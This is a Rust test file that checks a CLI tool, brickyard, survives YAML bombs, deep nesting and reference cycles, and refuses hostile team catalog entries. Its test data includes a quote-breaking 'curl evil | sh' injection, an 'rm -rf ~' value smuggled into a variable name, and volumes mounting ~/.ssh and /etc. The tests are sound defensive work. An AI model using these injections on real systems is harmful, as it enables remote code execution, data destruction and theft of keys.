//! Files no one should write, and some people will: whatever they hold,
//! `brickyard config` answers (a result or an error), never panics, never
//! overflows its stack, and takes no more than a few seconds.

use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::support::bin;

/// Runs `brickyard config` on `files` in a fresh directory, within `limit`.
fn config(files: &[(&str, String)], limit: Duration) -> (Option<i32>, String, Duration) {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let p = dir.path().join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    let mut cmd = Command::new(bin());
    cmd.args(["config", "--format", "json"])
        .current_dir(dir.path());
    within(&mut cmd, limit)
}

/// Runs `cmd` (CI=true, no stdout) for at most `limit`: its exit code
/// (`None` if it had to be killed), stderr, and how long it took.
fn within(cmd: &mut Command, limit: Duration) -> (Option<i32>, String, Duration) {
    let started = Instant::now();
    let mut child = cmd
        .env("CI", "true")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            let mut err = String::new();
            use std::io::Read;
            child
                .stderr
                .take()
                .unwrap()
                .read_to_string(&mut err)
                .unwrap();
            return (status.code(), err, started.elapsed());
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            return (None, "timed out".into(), started.elapsed());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn answers(name: &str, files: &[(&str, String)]) {
    let (code, err, took) = config(files, Duration::from_secs(10));
    assert!(code.is_some(), "{name}: no answer in {took:?}");
    assert!(
        matches!(code, Some(0) | Some(1)),
        "{name}: exit {code:?} (a crash?):\n{err}"
    );
    assert!(!err.contains("panicked"), "{name}: {err}");
    assert!(took < Duration::from_secs(5), "{name}: took {took:?}");
}

#[test]
fn no_compose_file_makes_brickyard_panic_overflow_or_hang() {
    let deep_list = format!("services: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    let deep_map = {
        let mut s = String::from("services:\n  a:\n    image: x\n    labels:\n");
        for i in 0..5_000 {
            s.push_str(&" ".repeat(6 + i * 2));
            s.push_str("k:\n");
        }
        s
    };
    let laughs = {
        let mut s = String::from("x-0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for i in 1..12 {
            s.push_str(&format!(
                "x-{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n",
                p = i - 1
            ));
        }
        s.push_str("services:\n  a:\n    image: x\n");
        s
    };
    let many = {
        let mut s = String::from("services:\n");
        for i in 0..3_000 {
            s.push_str(&format!(
                "  s{i}:\n    image: x:1\n    ports: [\"{}:80\"]\n    depends_on: [{}]\n",
                10_000 + i,
                if i == 0 {
                    "s1".to_string()
                } else {
                    format!("s{}", i - 1)
                }
            ));
        }
        s
    };
    let long_chain = {
        let mut s = String::from("services:\n  s0:\n    image: x:1\n");
        for i in 1..2_000 {
            s.push_str(&format!("  s{i}:\n    extends: s{}\n", i - 1));
        }
        s
    };
    // Written parent-last, so each service's chain runs to the end of the file.
    let long_chain_backwards = {
        let mut s = String::from("services:\n");
        for i in 0..1_999 {
            s.push_str(&format!("  s{i}:\n    extends: s{}\n", i + 1));
        }
        s.push_str("  s1999:\n    image: x:1\n");
        s
    };
    let wide_deps = {
        let mut s = String::from("services:\n");
        for i in 0..400 {
            let deps: Vec<String> = (i + 1..(i + 20).min(400))
                .map(|d| format!("s{d}"))
                .collect();
            s.push_str(&format!(
                "  s{i}:\n    image: x:1\n    depends_on: [{}]\n",
                deps.join(", ")
            ));
        }
        s
    };
    let cases: Vec<(&str, Vec<(&str, String)>)> = vec![
        ("deeply nested lists", vec![("compose.yaml", deep_list)]),
        ("deeply nested mappings", vec![("compose.yaml", deep_map)]),
        ("alias explosion", vec![("compose.yaml", laughs)]),
        (
            "3000 services in a dependency cycle",
            vec![("compose.yaml", many)],
        ),
        ("2000 chained extends", vec![("compose.yaml", long_chain)]),
        (
            "2000 chained extends, written backwards",
            vec![("compose.yaml", long_chain_backwards)],
        ),
        ("a wide dependency graph", vec![("compose.yaml", wide_deps)]),
        (
            "an include cycle",
            vec![
                (
                    "compose.yaml",
                    "include: [b.yaml]\nservices: {a: {image: x}}\n".into(),
                ),
                (
                    "b.yaml",
                    "include: [compose.yaml]\nservices: {b: {image: x}}\n".into(),
                ),
            ],
        ),
        (
            "an extends cycle across files",
            vec![
                (
                    "compose.yaml",
                    "services:\n  a:\n    extends: {file: b.yaml, service: b}\n".into(),
                ),
                (
                    "b.yaml",
                    "services:\n  b:\n    extends: {file: compose.yaml, service: a}\n".into(),
                ),
            ],
        ),
        (
            "binary junk",
            vec![(
                "compose.yaml",
                "\u{0}\u{1}\u{fffd}services\u{7f}".repeat(1000),
            )],
        ),
        (
            "invalid YAML in a flow",
            vec![("compose.yaml", "services: {a: [b=${C}]}\n".into())],
        ),
        (
            "a huge interpolation",
            vec![(
                "compose.yaml",
                format!(
                    "services:\n  a:\n    image: \"{}\"\n",
                    "${X:-${X:-".repeat(2_000) + &"}".repeat(4_000)
                ),
            )],
        ),
        (
            "a runaway default",
            vec![(
                "compose.yaml",
                format!(
                    "services:\n  a:\n    image: x\n    environment:\n      A: \"{}\"\n",
                    "$$".repeat(200_000)
                ),
            )],
        ),
    ];
    for (name, files) in cases {
        answers(name, &files);
    }
}

/// `brickyard config | head -1`: the reader leaves before brickyard writes.
/// That is the end of the conversation, not a crash.
#[test]
fn a_reader_that_leaves_early_is_not_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    let mut compose = String::from("services:\n");
    for i in 0..2_000 {
        compose.push_str(&format!("  s{i}:\n    image: x:1\n"));
    }
    std::fs::write(dir.path().join("compose.yaml"), compose).unwrap();
    let mut child = Command::new(bin())
        .arg("config")
        .current_dir(dir.path())
        .env("CI", "true")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains("panicked"), "{err}");
    assert!(err.trim().is_empty(), "nothing to say to no one: {err}");
    assert_eq!(out.status.code(), Some(0), "{err}");
}

/// Runs `brickyard --catalog <team> <args>` with the team catalog made of
/// `files`, within 10 s: its exit code and stderr.
fn with_team_catalog(files: &[(&str, String)], args: &[&str]) -> (Option<i32>, String) {
    let dir = tempfile::tempdir().unwrap();
    let team = dir.path().join("team");
    for (name, text) in files {
        let p = team.join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    std::fs::create_dir_all(&team).unwrap();
    #[cfg(unix)]
    if files.iter().any(|(n, _)| *n == "services/fifo.yaml") {
        let p = team.join("services/fifo.yaml");
        std::fs::remove_file(&p).unwrap();
        assert!(Command::new("mkfifo").arg(&p).status().unwrap().success());
    }
    let mut cmd = Command::new(bin());
    cmd.arg("--catalog")
        .arg(&team)
        .args(args)
        .current_dir(dir.path());
    let (code, err, _) = within(&mut cmd, Duration::from_secs(10));
    (code, err)
}

fn entry(id: &str, theme: &str, extra: &str) -> String {
    format!("id: {id}\ntheme: {theme}\nname: {id}\ndescription: d\n{extra}")
}

/// A team catalog that is broken or hostile gets a clear error in bounded
/// time, never a crash or a hang.
#[test]
fn a_hostile_team_catalog_is_refused_clearly_and_quickly() {
    // (what, the team catalog's files, the command, what the error says)
    type Case = (
        &'static str,
        Vec<(&'static str, String)>,
        &'static [&'static str],
        &'static str,
    );
    let cases: Vec<Case> = vec![
        (
            "a FIFO among the entries (reading it would block forever)",
            vec![("services/fifo.yaml", String::new())],
            &["catalog", "list"],
            "is not a regular file (a pipe, socket or device)",
        ),
        (
            "partials that include each other",
            vec![
                (
                    "templates/project/README.md.hbs",
                    "{{> project/gitignore.hbs}}".into(),
                ),
                (
                    "templates/project/gitignore.hbs",
                    "{{> project/README.md.hbs}}".into(),
                ),
            ],
            &["new", "p", "--yes", "--dry-run"],
            "a partial cannot include itself",
        ),
        (
            "a secret that is not a variable name",
            vec![(
                "services/bad.yaml",
                entry("bad", "services", "secrets: [BAD-NAME]\n"),
            )],
            &["catalog", "list"],
            "`BAD-NAME` is not a variable name",
        ),
        (
            "a volume from the person's home",
            vec![(
                "services/peek.yaml",
                entry(
                    "peek",
                    "services",
                    "services:\n  peek:\n    image: busybox:1.36\n    volumes: [\"~/.ssh:/keys\"]\n",
                ),
            )],
            &["catalog", "list"],
            "mounts a path of the person's machine outside the project",
        ),
        (
            "a volume through ${HOME}",
            vec![(
                "services/peek.yaml",
                entry(
                    "peek",
                    "services",
                    "services:\n  peek:\n    image: busybox:1.36\n    volumes: [\"${HOME}:/home\"]\n",
                ),
            )],
            &["catalog", "list"],
            "mounts a path of the person's machine outside the project",
        ),
        (
            "an absolute path of the machine as a volume",
            vec![(
                "services/peek.yaml",
                entry(
                    "peek",
                    "services",
                    "services:\n  peek:\n    image: busybox:1.36\n    volumes: [\"/etc:/host-etc:ro\"]\n",
                ),
            )],
            &["catalog", "list"],
            "`/etc:/host-etc:ro`",
        ),
        (
            "a host mount with no reason given",
            vec![(
                "services/peek.yaml",
                entry(
                    "peek",
                    "services",
                    "services:\n  peek:\n    image: busybox:1.36\n    host_mounts:\n      - {source: /etc, target: /host-etc, reason: \" \"}\n",
                ),
            )],
            &["catalog", "list"],
            "needs a `reason`; it is what the person is told",
        ),
        (
            "a host mount through the home directory",
            vec![(
                "services/peek.yaml",
                entry(
                    "peek",
                    "services",
                    "services:\n  peek:\n    image: busybox:1.36\n    host_mounts:\n      - {source: ~/.ssh, target: /keys, reason: keys}\n",
                ),
            )],
            &["catalog", "list"],
            "needs an absolute source and target with no `~`, `$`, `:` or `..`",
        ),
        (
            "a host mount's group kept under a name .env cannot carry",
            vec![(
                "services/peek.yaml",
                entry(
                    "peek",
                    "services",
                    "services:\n  peek:\n    image: busybox:1.36\n    host_mounts:\n      - {source: /var/run/docker.sock, target: /var/run/docker.sock, reason: builds, group_var: \"GID; rm -rf ~\"}\n",
                ),
            )],
            &["catalog", "list"],
            "group_var `GID; rm -rf ~` is not a variable name",
        ),
        (
            "a chat webhook wired into a service the entry does not have",
            vec![(
                "ci/ours.yaml",
                entry(
                    "ours",
                    "ci",
                    "services:\n  ours:\n    image: busybox:1.36\nwires:\n  notify_env: [jenkins]\n",
                ),
            )],
            &["catalog", "list"],
            "field `wires.notify_env`: `jenkins` is not a service of this entry",
        ),
        (
            "an entry that takes a built-in id of another theme",
            vec![("ci/redis.yaml", entry("redis", "ci", ""))],
            &["catalog", "list"],
            "is already the services tool of",
        ),
        (
            "an app entry that does not say how it is tested",
            vec![("app/elixir.yaml", entry("elixir", "app", ""))],
            &["catalog", "list"],
            "field `toolchain`: an app entry says how its app is tested and run",
        ),
        (
            "a toolchain command that would break out of a CI file's quotes",
            vec![(
                "app/elixir.yaml",
                entry(
                    "elixir",
                    "app",
                    "toolchain: {image: elixir:1.17, test: \"mix test'; curl evil | sh; '\", run: mix run}\n",
                ),
            )],
            &["catalog", "list"],
            "field `toolchain.test`: one line with no quote (') or backslash",
        ),
        (
            "a conflict with both an id and a theme",
            vec![(
                "services/odd.yaml",
                entry(
                    "odd",
                    "services",
                    "conflicts: [{id: redis, any_in_theme: mocks, reason: r}]\n",
                ),
            )],
            &["catalog", "list"],
            "field `conflicts`: give `id` or `any_in_theme`, not both or neither",
        ),
        (
            // `any_in_theme: services` reaches a team's own service too.
            "a team's service with a static site",
            vec![("services/worker.yaml", entry("worker", "services", ""))],
            &[
                "new",
                "p",
                "--yes",
                "--app",
                "static",
                "--services",
                "worker",
                "--dry-run",
            ],
            "cannot be picked together: a static site has no server code",
        ),
        (
            "a huge file",
            vec![("services/huge.yaml", "# x\n".repeat(600_000))],
            &["catalog", "list"],
            "a catalog file may be 1024 KiB at most",
        ),
        (
            "YAML nested deeper than anyone writes",
            vec![(
                "services/deep.yaml",
                format!("{}{}", "[".repeat(20_000), "]".repeat(20_000)),
            )],
            &["catalog", "list"],
            "invalid catalog entry",
        ),
    ];
    for (what, files, args, says) in cases {
        let (code, err) = with_team_catalog(&files, args);
        assert_eq!(code, Some(1), "{what}: exit {code:?}:\n{err}");
        assert!(err.contains(says), "{what}:\n{err}");
        assert!(!err.contains("panicked"), "{what}: {err}");
    }
}

/// A team entry that replaces a built-in one of its own theme is allowed,
/// and said.
#[test]
fn a_team_entry_that_replaces_a_built_in_one_is_announced() {
    let redis = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("catalog/services/redis.yaml"),
    )
    .unwrap();
    let (code, err) = with_team_catalog(&[("services/redis.yaml", redis)], &["catalog", "list"]);
    assert_eq!(code, Some(0), "{err}");
    assert!(
        err.contains("note: ")
            && err.contains("services/redis.yaml replaces catalog/services/redis.yaml (`redis`)"),
        "{err}"
    );
}

/// An argument that is not UTF-8 (a file name from another system) once
/// panicked before clap saw it; clap refuses it as a usage error, and a
/// path argument takes it as a path.
#[cfg(unix)]
#[test]
fn an_argument_that_is_not_utf8_is_a_usage_error_not_a_panic() {
    use std::os::unix::ffi::OsStrExt;
    let bad = std::ffi::OsStr::from_bytes(b"\xff");
    let dir = tempfile::tempdir().unwrap();
    for args in [
        vec![std::ffi::OsStr::new("ps"), bad],
        vec![std::ffi::OsStr::new("--help"), bad],
    ] {
        let out = Command::new(bin())
            .args(&args)
            .current_dir(dir.path())
            .env("CI", "true")
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!err.contains("panicked"), "{args:?}: {err}");
        assert!(
            matches!(out.status.code(), Some(0) | Some(2)),
            "{args:?}: {:?} {err}",
            out.status
        );
    }
    let out = Command::new(bin())
        .arg("new")
        .arg(bad)
        .arg("--yes")
        .current_dir(dir.path())
        .env("CI", "true")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("project name"), "{err}");
    assert!(
        std::fs::read_dir(dir.path()).unwrap().next().is_none(),
        "nothing is written"
    );
}
